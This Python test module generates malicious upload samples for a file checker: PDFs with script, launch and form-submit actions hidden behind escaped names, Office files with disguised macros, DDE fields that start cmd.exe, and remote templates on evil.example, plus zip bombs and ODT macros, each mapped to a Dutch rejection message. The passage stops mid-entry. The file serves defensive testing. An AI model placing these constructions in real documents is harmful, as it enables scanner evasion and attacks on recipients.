"""A corpus of hostile uploads, generated: PDFs built with pikepdf or byte
by byte (escaped names, object streams, actions of every kind, embedded
files, encryption), office files zipped by hand (macros under other names,
external relationships, embedded archives and OLE objects, DDE fields), zip
bombs whose declared sizes lie, OpenDocument macros, and the EICAR test
file inside a PDF and a DOCX for the virus scanner.

Every entry names the start of the Dutch message the upload check must
answer with. Nothing hostile is stored in the repository: the files are
built when a test asks for them (and cached for the test run).
"""

from __future__ import annotations

import functools
import io
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from casefiles.tests.files import pdf_bytes, zip_of

PDF_ACTIVE = "Deze PDF bevat een script of een ingebouwd bestand."
PDF_BROKEN = "Deze PDF is niet compleet of beschadigd."
PASSWORD = "Dit bestand is beveiligd met een wachtwoord."
MACROS = "Dit bestand bevat macro's."
EMBEDDED = "Dit bestand bevat een ingebouwd bestand, een programma of een verwijzing naar iets buiten het bestand."
UNPACKED_TOO_BIG = "Dit bestand is uitgepakt te groot of bestaat uit te veel delen."
WRONG_KIND = "Dit soort bestand kan niet."
VIRUS = "In dit bestand is een virus gevonden."


@dataclass(frozen=True)
class Hostile:
    build: Callable[[], bytes]
    message: str
    # True: only a virus scanner can tell (the file is otherwise ordinary).
    needs_clamd: bool = False


def eicar() -> bytes:
    """The standard 68-byte antivirus test file, put together from pieces
    so that this source file is not itself flagged by a scanner."""
    head = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$"
    tail = b"-ANTIVIRUS-TEST-FILE!$H+H*"
    return head + b"EICAR" + b"-STANDARD" + tail


# --- PDF ----------------------------------------------------------------------------------


def _pdf(change: Callable[[pikepdf.Pdf], None], *, object_streams: bool = False, **save: object) -> bytes:
    """A one-page PDF made by pikepdf, changed by ``change`` before saving."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    pdf.pages[0].Contents = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (Brief van de gemeente) Tj ET")
    change(pdf)
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, **save)  # type: ignore[arg-type]
    return out.getvalue()


def _raw_pdf(objects: list[bytes], *, dead: bytes = b"") -> bytes:
    """A PDF written byte by byte with a correct cross-reference table, so
    that names stay exactly as written (escaped). Object 1 is the catalog.
    ``dead`` is an object left in the file but not in the table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    out += dead
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"


def _raw_with_open_action(action: bytes) -> bytes:
    return _raw_pdf([b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", PAGES, PAGE, action])


def _action(kind: str, **entries: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name("/" + kind), **entries)


def _open_action(action: Dictionary, *, object_streams: bool = False) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(action)

    return _pdf(change, object_streams=object_streams)


def _link_with(action: Dictionary) -> bytes:
    """A link annotation (clicked by the reader) that runs ``action``."""

    def change(pdf: pikepdf.Pdf) -> None:
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 200, 720]), A=action)
        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(link)]))

    return _pdf(change)


def _javascript_name_tree() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        script = pdf.make_indirect(_action("JavaScript", JS=String("app.launchURL('http://evil.example')")))
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), script])))

    return _pdf(change, object_streams=True)


def _embedded_file() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        stream = pdf.make_stream(b"MZ programma", Type=Name.EmbeddedFile)
        spec = Dictionary(Type=Name.Filespec, F=String("factuur.exe"), EF=Dictionary(F=stream))
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("factuur.exe"), spec])))

    return _pdf(change)


def _file_attachment_annotation() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        spec = Dictionary(Type=Name.Filespec, F=String("bijlage.docm"))
        note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]), FS=spec)
        pdf.pages[0].Annots = Array([pdf.make_indirect(note)])

    return _pdf(change)


def _page_open_script() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].AA = Dictionary(O=_action("JavaScript", JS=String("this.print()")))

    return _pdf(change, object_streams=True)


def _document_close_script() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AA = Dictionary(WC=pdf.make_indirect(_action("JavaScript", JS=pdf.make_stream(b"app.alert(1)"))))

    return _pdf(change)


def _outline_script() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        item = pdf.make_indirect(Dictionary(Title=String("Hoofdstuk 1"), A=_action("JavaScript", JS=String("1"))))
        outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
        item.Parent = outlines
        pdf.Root.Outlines = outlines

    return _pdf(change, object_streams=True)


def _form_field_keystroke_script() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        field = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("bedrag"),
            Rect=Array([72, 600, 300, 620]),
            AA=Dictionary(K=_action("JavaScript", JS=String("event.rc = true; app.alert(2)"))),
        )
        reference = pdf.make_indirect(field)
        pdf.pages[0].Annots = Array([reference])
        pdf.Root.AcroForm = Dictionary(Fields=Array([reference]))

    return _pdf(change)


def _submit_form_button() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        button = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("verstuur"),
            Rect=Array([72, 500, 200, 520]),
            A=_action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("http://evil.example/collect"))),
        )
        reference = pdf.make_indirect(button)
        pdf.pages[0].Annots = Array([reference])
        pdf.Root.AcroForm = Dictionary(Fields=Array([reference]))

    return _pdf(change, object_streams=True)


def _xfa_form() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)

    return _pdf(change)


def _rich_media() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        media = Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=Array([0, 0, 100, 100]),
            RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([]))),
        )
        pdf.pages[0].Annots = Array([pdf.make_indirect(media)])

    return _pdf(change)


def _link_uri_then_script() -> bytes:
    return _link_with(
        _action("URI", URI=String("https://example.org"), Next=_action("JavaScript", JS=String("app.alert(3)")))
    )


def _encrypted(user: str) -> bytes:
    return _pdf(lambda pdf: None, encryption=pikepdf.Encryption(user=user, owner="eigenaar-geheim"))


def _dead_script_object() -> bytes:
    # Not in the cross-reference table: qpdf does not see it, a reader that
    # rebuilds the table may.
    dead = b"9 0 obj\n<</S/JavaScript/JS(app.alert(4))>>\nendobj\n"
    return _raw_pdf([b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE], dead=dead)


def _pdf_with_page_stream(content: bytes, *, compress: bool) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].Contents = pdf.make_stream(b"BT (" + content + b") Tj ET")

    return _pdf(change, compress_streams=compress)


PDF_HOSTILE: dict[str, Hostile] = {
    "pdf-javascript-open-action": Hostile(
        lambda: _open_action(_action("JavaScript", JS=String("app.alert('hallo')"))), PDF_ACTIVE
    ),
    "pdf-javascript-escaped-name": Hostile(
        lambda: _raw_with_open_action(b"<</S/J#61vaScript/J#53(app.alert(1))>>"), PDF_ACTIVE
    ),
    "pdf-javascript-fully-escaped-names": Hostile(
        lambda: _raw_with_open_action(b"<</#53/#4A#61#76#61#53#63#72#69#70#74/#4A#53(app.alert(1))>>"), PDF_ACTIVE
    ),
    "pdf-javascript-in-object-stream": Hostile(
        lambda: _open_action(_action("JavaScript", JS=String("app.alert(1)")), object_streams=True), PDF_ACTIVE
    ),
    "pdf-javascript-name-tree": Hostile(_javascript_name_tree, PDF_ACTIVE),
    "pdf-javascript-page-open": Hostile(_page_open_script, PDF_ACTIVE),
    "pdf-javascript-document-close": Hostile(_document_close_script, PDF_ACTIVE),
    "pdf-javascript-outline": Hostile(_outline_script, PDF_ACTIVE),
    "pdf-javascript-form-field": Hostile(_form_field_keystroke_script, PDF_ACTIVE),
    "pdf-javascript-dead-object": Hostile(_dead_script_object, PDF_ACTIVE),
    "pdf-launch-escaped-name": Hostile(
        lambda: _raw_with_open_action(b"<</S/L#61unch/Win<</F(cmd.exe)/P(/c calc)>>>>"), PDF_ACTIVE
    ),
    "pdf-launch-in-object-stream": Hostile(
        lambda: _open_action(_action("Launch", F=String("factuur.exe")), object_streams=True), PDF_ACTIVE
    ),
    "pdf-launch-on-link-click": Hostile(lambda: _link_with(_action("Launch", F=String("factuur.exe"))), PDF_ACTIVE),
    "pdf-open-action-uri": Hostile(lambda: _open_action(_action("URI", URI=String("http://evil.example"))), PDF_ACTIVE),
    "pdf-open-action-uri-escaped": Hostile(
        lambda: _raw_with_open_action(b"<</S/U#52I/URI(http://evil.example/track)>>"), PDF_ACTIVE
    ),
    "pdf-link-to-windows-share": Hostile(
        lambda: _link_with(_action("URI", URI=String("file://evil.example/share/x"))), PDF_ACTIVE
    ),
    "pdf-link-uri-then-javascript": Hostile(_link_uri_then_script, PDF_ACTIVE),
    "pdf-submit-form": Hostile(_submit_form_button, PDF_ACTIVE),
    "pdf-submit-form-open-action": Hostile(
        lambda: _raw_with_open_action(b"<</S/Subm#69tForm/F<</FS/URL/F(http://evil.example)>>>>"), PDF_ACTIVE
    ),
    "pdf-embedded-file": Hostile(_embedded_file, PDF_ACTIVE),
    "pdf-file-attachment-annotation": Hostile(_file_attachment_annotation, PDF_ACTIVE),
    "pdf-xfa-form": Hostile(_xfa_form, PDF_ACTIVE),
    "pdf-rich-media": Hostile(_rich_media, PDF_ACTIVE),
    "pdf-encrypted-with-password": Hostile(lambda: _encrypted("geheim"), PASSWORD),
    "pdf-encrypted-owner-only": Hostile(lambda: _encrypted(""), PASSWORD),
    "pdf-garbage-with-trailer": Hostile(lambda: b"%PDF-1.7\n" + b"\x00garbage" * 50 + b"\n%%EOF\n", PDF_BROKEN),
    # Found by the damaged-file test: qpdf gives up on this pages tree with
    # its own runtime error, not a PdfError.
    "pdf-pages-tree-without-count": Hostile(
        lambda: _raw_pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[/X 3 0 R]>>", PAGE]), PDF_BROKEN
    ),
    "pdf-without-end": Hostile(lambda: pdf_bytes()[:-200], PDF_BROKEN),
}
# Every action kind that is not navigation, on a link the reader clicks.
for _kind, _entries in {
    "ImportData": {"F": String("gegevens.fdf")},
    "ResetForm": {},
    "GoToR": {"F": String("//evil.example/share/b.pdf"), "D": Array([0, Name.Fit])},
    "GoToE": {"T": Dictionary(R=Name.C, N=String("bijlage"))},
    "Rendition": {"OP": 0},
    "Sound": {},
    "Movie": {},
    "Hide": {"T": String("veld")},
    "RichMediaExecute": {},
    "JavaScript": {"JS": String("app.alert(5)")},
}.items():
    PDF_HOSTILE[f"pdf-action-{_kind.lower()}-on-link"] = Hostile(
        functools.partial(lambda kind, entries: _link_with(_action(kind, **entries)), _kind, _entries), PDF_ACTIVE
    )

# --- Office (OOXML) -------------------------------------------------------------------

CONTENT_TYPES_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="png" ContentType="image/png"/>'
)
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def content_types(*overrides: tuple[str, str], main: str = WORD_MAIN, defaults: str = "") -> str:
    parts = "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in overrides)
    return (
        CONTENT_TYPES_HEAD + defaults + f'<Override PartName="/word/document.xml" ContentType="{main}"/>{parts}</Types>'
    )


def document_relationships(*relationships: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{''.join(relationships)}</Relationships>"
    )


def relationship(rid: str, kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{RELATIONSHIPS}/{kind}" Target="{target}"{mode}/>'


def word_document(body: str = "<w:p><w:r><w:t>Brief van de woningcorporatie</w:t></w:r></w:p>") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {W}><w:body>{body}</w:body></w:document>'
    )


def docx(
    *,
    types: str | None = None,
    relationships: tuple[str, ...] = (),
    body: str | None = None,
    extra: dict[str, str | bytes] | None = None,
) -> bytes:
    files: dict[str, str | bytes] = {
        "[Content_Types].xml": types or content_types(),
        "_rels/.rels": PACKAGE_RELS,
        "word/document.xml": word_document() if body is None else word_document(body),
        "word/_rels/document.xml.rels": document_relationships(*relationships),
    }
    files.update(extra or {})
    return zip_of(files)


def _ole_compound_file(payload: bytes = b"") -> bytes:
    """The start of an OLE compound file: old Office files, vbaProject.bin,
    embedded OLE objects."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + payload


def _field(*pieces: str) -> str:
    """A Word field whose instruction is split over runs, as Word does."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _xlsx(types_extra: str = "", extra: dict[str, str | bytes] | None = None, workbook_rels: str = "") -> bytes:
    types = (
        CONTENT_TYPES_HEAD + '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        + types_extra
        + "</Types>"
    )
    files: dict[str, str | bytes] = {
        "[Content_Types].xml": types,
        "_rels/.rels": PACKAGE_RELS.replace("word/document.xml", "xl/workbook.xml"),
        "xl/workbook.xml": (
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'xmlns:r="{RELATIONSHIPS}"><sheets><sheet name="Budget" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": document_relationships(
            relationship("rId1", "worksheet", "worksheets/sheet1.xml"), workbook_rels
        ),
        "xl/worksheets/sheet1.xml": (
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            '<row r="1"><c r="A1"><v>42</v></c></row></sheetData></worksheet>'
        ),
    }
    files.update(extra or {})
    return zip_of(files)


def _with_flag(data: bytes, flag: int) -> bytes:
    """Set a general-purpose flag on every central-directory entry."""
    out = bytearray(data)
    start = 0
    while (position := out.find(b"PK\x01\x02", start)) != -1:
        (flags,) = struct.unpack_from("<H", out, position + 8)
        struct.pack_into("<H", out, position + 8, flags | flag)
        start = position + 4
    return bytes(out)


def _duplicate_names() -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        warnings.simplefilter("ignore")  # the duplicate is the point
        archive.writestr("[Content_Types].xml", content_types())
        archive.writestr("word/document.xml", word_document())
        archive.writestr("[Content_Types].xml", content_types(("/word/x.bin", "application/vnd.ms-office.vbaProject")))
    return out.getvalue()


OOXML_HOSTILE: dict[str, Hostile] = {
    "docx-vbaproject-bin": Hostile(
        lambda: docx(
            types=content_types(("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")),
            extra={"word/vbaProject.bin": _ole_compound_file(b"Sub AutoOpen()")},
        ),
        MACROS,
    ),
    "docx-macro-part-not-named-bin": Hostile(
        lambda: docx(
            types=content_types(("/word/gegevens.dat", "application/vnd.ms-office.vbaProject")),
            relationships=(
                '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                'Target="gegevens.dat"/>',
            ),
            extra={"word/gegevens.dat": b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()'},
        ),
        MACROS,
    ),
    "docx-macro-relationship-only": Hostile(
        lambda: docx(
            relationships=(
                '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                'Target="media/plaatje.png"/>',
            ),
            extra={"word/media/plaatje.png": b"Sub AutoOpen()"},
        ),
        MACROS,
    ),
    "docx-ole-part-under-image-name": Hostile(
        lambda: docx(extra={"word/media/image1.png": _ole_compound_file(b"Sub AutoOpen()")}), EMBEDDED
    ),
    "docm-macro-enabled-main-part": Hostile(
        lambda: docx(types=content_types(main="application/vnd.ms-word.document.macroEnabled.main+xml")), MACROS
    ),
    "docx-external-ole-object": Hostile(
        lambda: docx(
            relationships=(relationship("rId5", "oleObject", "http://evil.example/payload.rtf!", external=True),)
        ),
        EMBEDDED,
    ),
    "docx-external-template": Hostile(
        lambda: docx(
            relationships=(relationship("rId5", "attachedTemplate", "http://evil.example/t.dotm", external=True),)
        ),
        EMBEDDED,
    ),
    "docx-external-image": Hostile(
        lambda: docx(relationships=(relationship("rId6", "image", "http://evil.example/pixel.png", external=True),)),
        EMBEDDED,
    ),
    "docx-hyperlink-to-windows-share": Hostile(
        lambda: docx(relationships=(relationship("rId7", "hyperlink", "file://evil.example/share", external=True),)),
        EMBEDDED,
    ),
    "docx-embedded-ole-object": Hostile(
        lambda: docx(
            types=content_types(
                ("/word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")
            ),
            relationships=(relationship("rId8", "oleObject", "embeddings/oleObject1.bin"),),
            extra={"word/embeddings/oleObject1.bin": _ole_compound_file()},
        ),
        EMBEDDED,
    ),
    "docx-embedded-workbook": Hostile(
        lambda: docx(extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": _xlsx()}), EMBEDDED
    ),
    "docx-zip-inside": Hostile(
        lambda: docx(extra={"word/media/archief.png": zip_of({"factuur.exe": b"MZ programma"})}), EMBEDDED
    ),
    "docx-program-inside": Hostile(lambda: docx(extra={"word/media/image2.png": b"MZ\x90\x00\x03programma"}), EMBEDDED),
    "docx-activex-control": Hostile(
        lambda: docx(
            types=content_types(("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")),
            extra={
                "word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"
            },
        ),
        EMBEDDED,
    ),
    "docx-alt-chunk": Hostile(
        lambda: docx(
            relationships=(relationship("rId3", "aFChunk", "afchunk.mht"),),
            extra={"word/afchunk.mht": "MIME-Version: 1.0\r\n\r\n<script>alert(1)</script>"},
        ),
        EMBEDDED,
    ),
    "docx-dde-field": Hostile(
        lambda: docx(body=_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')), EMBEDDED
    ),
    "docx-dde-field-split-over-runs": Hostile(
        lambda: docx(body=_field(" DD", "EAUTO c:\\\\cmd.exe", ' "/k"')), EMBEDDED
    ),
    "docx-include-picture-field": Hostile(
        lambda: docx(body=_field(' INCLUDEPICTURE "http://evil.example/pixel.png" \\d ')), EMBEDDED
    ),
    "docx-doctype-entities": Hostile(
        lambda: docx(
            types='<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&b;</Types>'
        ),
        WRONG_KIND,
    ),
    "docx-duplicate-part-names": Hostile(_duplicate_names, WRONG_KIND),
    "docx-encrypted-member": Hostile(lambda: _with_flag(docx(), 0x1), PASSWORD),
    "xlsm-excel4-macro-sheet": Hostile(
        lambda: _xlsx(
            '<Override PartName="/xl/macrosheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
            {"xl/macrosheets/sheet2.xml": "<xm:macrosheet xmlns:xm='x'><f>EXEC(\"calc\")</f></xm:macrosheet>"},
        ),
        MACROS,
    ),
    "xlsx-dde-external-link": Hostile(
        lambda: _xlsx(
            extra={
                "xl/externalLinks/externalLink1.xml": (
                    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
                )
            }
        ),
        EMBEDDED,
    ),
    "xlsx-external-workbook": Hostile(
        lambda: _xlsx(
            workbook_rels=relationship("rId4", "externalLink", "\\\\evil.example\\share\\a.xlsx", external=True)
        ),
        EMBEDDED,
    ),
    "xlsm-vba-content-type-default": Hostile(
        lambda: _xlsx('<Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'), MACROS
    ),
}


def pptx(slide: str) -> bytes:
    types = (
        CONTENT_TYPES_HEAD + '<Override PartName="/ppt/presentation.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/>'
        '<Override PartName="/ppt/slides/slide1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/></Types>'
    )
    return zip_of(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": PACKAGE_RELS.replace("word/document.xml", "ppt/presentation.xml"),
            "ppt/presentation.xml": '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
            "ppt/slides/slide1.xml": slide,
        }
    )


def _slide_with_action(action: str) -> str:
    return (
        '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        f'xmlns:r="{RELATIONSHIPS}"><p:cSld><p:spTree><p:sp><p:nvSpPr>'
        f'<p:cNvPr id="2" name="Knop"><a:hlinkClick r:id="" action="{action}"/></p:cNvPr>'
        "</p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>"
    )


OOXML_HOSTILE["pptx-action-runs-program"] = Hostile(lambda: pptx(_slide_with_action("ppaction://program")), EMBEDDED)
OOXML_HOSTILE["pptx-action-runs-macro"] = Hostile(
    lambda: pptx(_slide_with_action("ppaction://macro?name=Start")), MACROS
)

# --- Zip bombs ----------------------------------------------------------------------------


def _zeros_member(archive: zipfile.ZipFile, name: str, size: int) -> None:
    # Not zip64: the size fields stay in the headers, where _lying_sizes
    # can rewrite them.
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w") as member:
        block = b"\x00" * (1024 * 1024)
        for _ in range(size // len(block)):
            member.write(block)


def _lying_sizes(data: bytes, declared: int) -> bytes:
    """Every media entry claims to unpack to ``declared`` bytes (in its
    local header and in the central directory), whatever it really holds."""
    out = bytearray(data)
    # (signature, offset of the uncompressed size, offset of the name)
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = 0
        while (position := out.find(signature, start)) != -1:
            if out[position + name_at :].startswith(b"word/media/"):
                struct.pack_into("<I", out, position + size_at, declared)
            start = position + 4
    return bytes(out)


def _bomb(*, sizes: list[int], declared: int | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", content_types())
        archive.writestr("word/document.xml", word_document())
        for number, size in enumerate(sizes):
            _zeros_member(archive, f"word/media/image{number}.png", size)
    data = out.getvalue()
    return data if declared is None else _lying_sizes(data, declared)


def _damaged(data: bytes, *, at: int, byte: bytes) -> bytes:
    """``data`` with the byte at position ``at`` replaced."""
    position = at % len(data)
    return data[:position] + byte + data[position + 1 :]


def _many_members() -> bytes:
    files: dict[str, str | bytes] = {"[Content_Types].xml": content_types(), "word/document.xml": word_document()}
    files.update({f"word/media/m{number}.xml": "" for number in range(1001)})
    return zip_of(files)


def _nested_zip_bomb() -> bytes:
    inner = zip_of({"a.txt": b"\x00" * (5 * 1024 * 1024)})
    return docx(extra={"word/media/image1.png": zip_of({"inner.zip": inner})})


BOMBS: dict[str, Hostile] = {
    "zip-bomb-declared-sizes-tiny": Hostile(lambda: _bomb(sizes=[120 * 1024 * 1024], declared=1024), UNPACKED_TOO_BIG),
    "zip-bomb-member-over-member-limit": Hostile(lambda: _bomb(sizes=[60 * 1024 * 1024]), UNPACKED_TOO_BIG),
    "zip-bomb-members-over-total-limit": Hostile(lambda: _bomb(sizes=[40 * 1024 * 1024] * 3), UNPACKED_TOO_BIG),
    "zip-bomb-lying-sizes-small-member": Hostile(lambda: _bomb(sizes=[2 * 1024 * 1024], declared=100), WRONG_KIND),
    # Found by the damaged-file test: zipfile lets zlib.error and ValueError
    # through for a damaged deflate stream and a directory offset before the
    # start of the file.
    "zip-damaged-deflate-stream": Hostile(lambda: _damaged(docx(), at=61, byte=b"\x00"), WRONG_KIND),
    "zip-directory-offset-before-start": Hostile(lambda: _damaged(docx(), at=-5, byte=b"\x04"), WRONG_KIND),
    "zip-too-many-members": Hostile(_many_members, UNPACKED_TOO_BIG),
    "zip-nested-archive": Hostile(_nested_zip_bomb, EMBEDDED),
}

# --- OpenDocument ---------------------------------------------------------------------------

ODT = "application/vnd.oasis.opendocument.text"


def _manifest(*entries: tuple[str, str], extra: str = "") -> str:
    files = "".join(
        f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{kind}"/>' for path, kind in entries
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{ODT}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        f"{files}{extra}</manifest:manifest>"
    )


ODF_CONTENT = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3">'
    "{events}<office:body><office:text><text:p>Brief van de gemeente</text:p></office:text></office:body>"
    "</office:document-content>"
)


def odt(*, manifest: str | None = None, events: str = "", extra: dict[str, str | bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), ODT)  # first and stored, as the standard asks
        archive.writestr("content.xml", ODF_CONTENT.format(events=events))
        archive.writestr("META-INF/manifest.xml", manifest or _manifest())
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


ODF_HOSTILE: dict[str, Hostile] = {
    "odt-basic-macro": Hostile(
        lambda: odt(
            extra={"Basic/Standard/Module1.xml": '<script:module>Sub Main\nShell("calc")\nEnd Sub</script:module>'}
        ),
        MACROS,
    ),
    "odt-python-script": Hostile(
        lambda: odt(extra={"Scripts/python/brief.py": "import os\nos.system('calc')"}), MACROS
    ),
    "odt-manifest-script-entry": Hostile(
        lambda: odt(manifest=_manifest(("Scripts/python/brief.py", "application/binary"))), MACROS
    ),
    "odt-manifest-basic-entry": Hostile(
        lambda: odt(manifest=_manifest(("macros/", "application/vnd.sun.xml.basic"))), MACROS
    ),
    "odt-event-listener-macro": Hostile(
        lambda: odt(
            events=(
                '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
                'script:event-name="dom:load" '
                'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
                "</office:event-listeners></office:scripts>"
            )
        ),
        MACROS,
    ),
    "odt-embedded-object": Hostile(
        lambda: odt(
